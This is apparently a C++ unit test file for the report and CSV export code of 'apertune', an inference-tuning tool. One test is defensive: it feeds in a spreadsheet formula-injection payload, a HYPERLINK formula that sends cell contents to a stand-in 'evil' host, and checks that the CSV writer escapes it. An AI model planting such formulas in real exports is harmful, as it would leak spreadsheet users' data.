// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/report/documents.h"
#include "core/report/recommendation.h"
#include "core/report/study_csv.h"
#include "core/sentences/sentences.h"
#include "core/text/format.h"
#include "tests/support/golden.h"
#include "tests/support/sample_study.h"

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <algorithm>
#include <limits>

namespace apertune::report {
namespace {

using apertune::test::expectGolden;
using base::Json;

std::vector<std::string> members(const Json& object)
{
    std::vector<std::string> names;
    for (const auto& [name, value] : object.items())
        names.push_back(name);
    return names;
}

TEST(StudyDocument, IsTheContractToTheLetter)
{
    expectGolden("study.json", studyDocument(test::sampleStudy()).dump(2) + "\n");
}

TEST(StudyDocument, SaysWhichTrialsTheWorkspaceHasLost)
{
    model::StudySnapshot snapshot = test::sampleStudy();
    EXPECT_TRUE(losses(snapshot).empty());
    ASSERT_GT(snapshot.trials.size(), 2u);
    snapshot.trials[0].reason = {model::ReasonKind::damaged,
                                 base::foreignText("The workspace is damaged: of this trial config cannot be read.")};
    snapshot.trials[0].state = model::TrialState::failed;
    snapshot.trials[1].measurement.flags.push_back(model::TrialFlag::unreadableTimes);
    const std::string all = " of " + std::to_string(snapshot.trials.size()) + " trials cannot be read (";
    EXPECT_EQ(losses(snapshot),
              (std::vector<std::string>{
                  "The workspace is damaged: what was measured in 1" + all + text::toText(snapshot.trials[0].id) + ").",
                  "The workspace is damaged: details of 1" + all + text::toText(snapshot.trials[1].id) + ")."}));
    const Json d = studyDocument(snapshot);
    EXPECT_EQ(d["losses"].size(), 2u);
    EXPECT_EQ(d["trials"][0]["state"], "failed");
    EXPECT_EQ(d["trials"][0]["reason"], "damaged: " + sentences::sentence(snapshot.trials[0].reason.message));
}

TEST(StudyDocument, HasExactlyTheMembersThatScriptsRelyOn)
{
    const Json d = studyDocument(test::sampleStudy());
    EXPECT_EQ(members(d),
              (std::vector<std::string>{"schema", "id", "model", "base", "goal", "environment", "trials", "recommended",
                                        "shortlist", "also_best", "noise_floors", "interference", "losses"}));
    EXPECT_EQ(members(d["recommended"]),
              (std::vector<std::string>{"trial", "speedup", "runner_up", "confirmed", "note"}));
    EXPECT_EQ(members(d["recommended"]["speedup"]),
              (std::vector<std::string>{"value", "lo", "hi", "against", "verdict"}));
    EXPECT_EQ(members(d["recommended"]["runner_up"]), (std::vector<std::string>{"trial", "ratio", "verdict"}));
    for (const Json& t : d["trials"])
        EXPECT_EQ(members(t), (std::vector<std::string>{"id",
                                                        "state",
                                                        "reason",
                                                        "reason_message",
                                                        "config",
                                                        "device",
                                                        "latency_ms",
                                                        "load_ms",
                                                        "cold_start_ms",
                                                        "warm_start_ms",
                                                        "warmup_ms",
                                                        "warmup_passes",
                                                        "compile_ms",
                                                        "device_ms",
                                                        "throughput_per_s",
                                                        "energy_mj",
                                                        "energy_above_idle_mj",
                                                        "memory_bytes",
                                                        "quality",
                                                        "applied",
                                                        "flags",
                                                        "modes",
                                                        "conditions"}));
    const Json& t = d["trials"][0];
    EXPECT_EQ(members(t["config"]),
              (std::vector<std::string>{"backend", "level", "precision", "batch", "threads", "switches"}));
    EXPECT_EQ(members(t["latency_ms"]),
              (std::vector<std::string>{"median", "lo", "hi", "confidence", "blocks", "iterations", "passes", "p50",
                                        "p90", "p95", "p99", "first"}));
    EXPECT_EQ(members(t["throughput_per_s"]), (std::vector<std::string>{"value", "lo", "hi"}));
    EXPECT_EQ(members(t["memory_bytes"]), (std::vector<std::string>{"process_peak", "allocator_peak", "device_peak"}));
    EXPECT_EQ(members(t["quality"]), (std::vector<std::string>{"cosine", "max_abs", "max_rel", "nan_count",
                                                               "top1_agreement", "top5_agreement", "samples"}));
    EXPECT_EQ(members(t["applied"][0]), (std::vector<std::string>{"switch", "state", "evidence"}));
}

TEST(StudyDocument, RecommendedPointsAtTrialsOfTheDocument)
{
    const Json d = studyDocument(test::sampleStudy());
    const auto has = [&](const Json& id) {
        return std::any_of(d["trials"].begin(), d["trials"].end(), [&](const Json& t) { return t["id"] == id; });
    };
    EXPECT_TRUE(has(d["recommended"]["trial"]));
    EXPECT_TRUE(has(d["recommended"]["speedup"]["against"]));
    EXPECT_TRUE(has(d["recommended"]["runner_up"]["trial"]));
}

TEST(StudyDocument, WithoutARecommendationSaysNull)
{
    EXPECT_TRUE(studyDocument(test::interruptedStudy())["recommended"].is_null());
    auto s = test::sampleStudy();
    s.recommended->against = {};
    s.recommended->runnerUp.reset();
    EXPECT_TRUE(studyDocument(s)["recommended"]["speedup"].is_null());
    EXPECT_TRUE(studyDocument(s)["recommended"]["runner_up"].is_null());
}

TEST(TrialDocument, WhatDoesNotApplyIsNull)
{
    auto s = test::sampleStudy();
    const Json failed = trialDocument(s.trials[5]);
    for (const char* name : {"latency_ms", "throughput_per_s", "memory_bytes", "quality"})
        EXPECT_TRUE(failed[name].is_null()) << name;
    EXPECT_EQ(failed["reason"], "oom: The worker ran out of memory at batch 64.");
    EXPECT_EQ(failed["applied"], Json::array());

    const Json ok = trialDocument(s.trials[0]);
    EXPECT_TRUE(ok["reason"].is_null());
    EXPECT_TRUE(ok["latency_ms"]["p99"].is_null()) << "42 samples support no p99";
    EXPECT_TRUE(ok["memory_bytes"]["device_peak"].is_null());
    s.trials[0].measurement.quality.reset();
    EXPECT_TRUE(trialDocument(s.trials[0])["quality"].is_null());
}

TEST(TrialDocument, WithoutAnIntervalItsEndsAreNull)
{
    auto s = test::sampleStudy();
    model::Measurement& m = s.trials[0].measurement;
    m.latencyNs.confidence = m.throughput.confidence = 0;
    s.recommended->speedup.confidence = 0;
    const Json study = studyDocument(s);
    const Json& trial = study["trials"][0];
    for (const Json* interval : {&trial["latency_ms"], &trial["throughput_per_s"], &study["recommended"]["speedup"]}) {
        EXPECT_TRUE(interval->at("lo").is_null()) << *interval;
        EXPECT_TRUE(interval->at("hi").is_null()) << *interval;
    }
    EXPECT_GT(trial["latency_ms"]["median"].get<double>(), 0);
    EXPECT_TRUE(study["recommended"]["speedup"]["value"].is_null()) << "a ratio without an interval is no number";
}

TEST(StudyDocument, SaysThatARecommendationIsUnconfirmedAndWhatToDo)
{
    auto s = test::sampleStudy();
    EXPECT_EQ(studyDocument(s)["recommended"]["confirmed"], true);
    EXPECT_TRUE(studyDocument(s)["recommended"]["note"].is_null());
    for (model::Trial& trial : s.trials)
        trial.measurement.confirmation = 0;
    const Json d = studyDocument(s);
    EXPECT_EQ(d["recommended"]["confirmed"], false);
    EXPECT_EQ(
        d["recommended"]["note"],
        "Unconfirmed: it was not measured in turns with O0 fp32 batch 4, so other load on the machine may make the "
        "difference. `apertune tune --resume s3 --budget 2m` confirms it.");
}

TEST(StudyDocument, SaysThatARecommendationWasMeasuredUnderLoadAndHowToMeasureAgain)
{
    auto s = test::sampleStudy();
    EXPECT_FALSE(canBeSurer(s));
    for (model::Trial& trial : s.trials)
        if (trial.id == s.recommended->against)
            trial.measurement.conditions.contended = static_cast<std::int64_t>(trial.measurement.blocks.size());
    const Json d = studyDocument(s);
    EXPECT_EQ(d["recommended"]["confirmed"], true);
    EXPECT_EQ(d["recommended"]["note"],
              "Other programs took processor time from it, so the difference is an estimate. "
              "`apertune tune --resume s3 --when-quiet 10m` waits until they are done and measures it again.");
    EXPECT_TRUE(canBeSurer(s));
    EXPECT_NE(recommendationSentence(s).find("--when-quiet"), std::string::npos);
    s.study.state = model::StudyState::running;
    EXPECT_TRUE(studyDocument(s)["recommended"]["note"].is_null());
}

TEST(TrialDocument, AConfigurationThatWaitsIsCancelledWithTheWayToGoOn)
{
    const Json waiting = trialDocument(test::interruptedStudy().trials[4]);
    EXPECT_EQ(waiting["state"], "cancelled");
    EXPECT_NE(waiting["reason"].get<std::string>().find("apertune tune --resume s3"), std::string::npos);
}

TEST(TrialDocument, ANumberThatIsNoneIsWrittenAsNull)
{
    auto s = test::sampleStudy();
    s.trials[0].measurement.quality->maxRel = std::numeric_limits<double>::infinity();
    EXPECT_TRUE(Json::parse(trialDocument(s.trials[0]).dump())["quality"]["max_rel"].is_null());
}

TEST(StudyCsv, HasARowForEveryTrial)
{
    expectGolden("study.csv", studyCsv(test::sampleStudy()));
}

TEST(StudyCsv, TheRangeOfAFewSamplesIsNotWrittenAsAnInterval)
{
    model::StudySnapshot s = test::sampleStudy();
    model::Trial& trial = s.trials[0];
    const auto row = [&] { return studyCsv(s).substr(0, studyCsv(s).find('\n', studyCsv(s).find('\n') + 1)); };
    trial.measurement.latencyNs = {5e6, 4e6, 8e6, 0.95};
    EXPECT_NE(row().find(",5,4,8,0.95,"), std::string::npos) << row();
    trial.measurement.latencyNs.confidence = 0;
    EXPECT_NE(row().find(",5,,,0,"), std::string::npos) << row();
}

TEST(StudyCsv, TextFromAStudyIsNoFormulaToASpreadsheet)
{
    auto study = test::sampleStudy();
    study.trials[5].reason.message = base::foreignText("=HYPERLINK(\"http://evil/?\"&A1)");
    study.trials[6].reason.message = base::foreignText("@SUM(1)");
    const std::string csv = studyCsv(study);
    EXPECT_NE(csv.find(R"csv(,"'=HYPERLINK(""http://evil/?""&A1)",)csv"), std::string::npos) << csv;
    EXPECT_NE(csv.find(",'@SUM(1),"), std::string::npos);
}

TEST(StudyCsv, EveryRowHasTheFieldsOfTheHeader)
{
    const std::string csv = studyCsv(test::sampleStudy());
    std::vector<int> fields{1};
    bool quoted = false;
    for (const char c : csv) {
        quoted = c == '"' ? !quoted : quoted;
        if (c == ',' && !quoted)
            ++fields.back();
        if (c == '\n' && !quoted)
            fields.push_back(1);
    }
    fields.pop_back();
    ASSERT_EQ(fields.size(), 11u);
    for (const int n : fields)
        EXPECT_EQ(n, fields.front());
}

} // namespace
} // namespace apertune::report
